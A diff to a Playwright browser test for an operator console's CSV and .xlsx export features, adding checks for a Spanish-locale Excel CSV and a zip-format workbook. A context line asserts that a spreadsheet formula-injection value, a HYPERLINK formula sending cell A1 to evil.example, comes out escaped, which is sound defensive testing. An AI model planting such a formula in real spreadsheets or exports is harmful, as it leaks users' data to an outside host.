@@ -213,6 +213,23 @@ describeWithChromium('the operator console at work (Chromium)', () => {
     expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""ver factura"")"`);
     expect(line).not.toMatch(/(^|,)"?=/);
     expect(csv).toContain('factura 5302 sin fórmula');
+
+    // The same search for Excel in Spanish: `;` between cells, a byte-order mark, decimal commas; and as .xlsx.
+    const [excel] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'CSV para Excel' }).click(),
+    ]);
+    const spanish = await readFile(await excel.path(), 'utf8');
+    expect(spanish.startsWith('\uFEFF')).toBe(true);
+    expect(spanish.trim().split(/\r\n/)).toHaveLength(3);
+    expect(spanish.split(/\r\n/)[0]).toContain(';');
+    const [workbook] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'Exportar .xlsx' }).click(),
+    ]);
+    expect(workbook.suggestedFilename()).toMatch(/\.xlsx$/);
+    // An .xlsx is a zip: it starts with PK.
+    expect((await readFile(await workbook.path())).subarray(0, 2).toString('latin1')).toBe('PK');
     await page.close();
   });
 
